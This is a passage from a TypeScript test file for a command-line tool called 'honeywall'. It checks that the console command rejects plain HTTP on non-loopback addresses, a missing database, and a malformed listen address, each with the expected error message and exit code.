    let err = '';
    const spy = vi.spyOn(process.stderr, 'write').mockImplementation((s: string | Uint8Array) => ((err += String(s)), true));
    try {
      expect(await main(['node', 'honeywall', 'console', '--db', store.db, '--listen', '0.0.0.0:18444', '--insecure-http'])).toBe(2);
      expect(err).toMatch(/--insecure-http listens on loopback addresses only .* plain HTTP would show the session cookie/);
      err = '';
      expect(await main(['node', 'honeywall', 'console', '--db', join(dir, 'none.sqlite'), '--listen', '127.0.0.1:18444'])).toBe(2);
      expect(err).toMatch(/no store there/);
      err = '';
      expect(await main(['node', 'honeywall', 'console', '--db', store.db, '--listen', 'nowhere'])).toBe(2);
      expect(err).toMatch(/--listen: 'nowhere' is not ADDRESS:PORT/);
    } finally {
      spy.mockRestore();
    }
  });
});
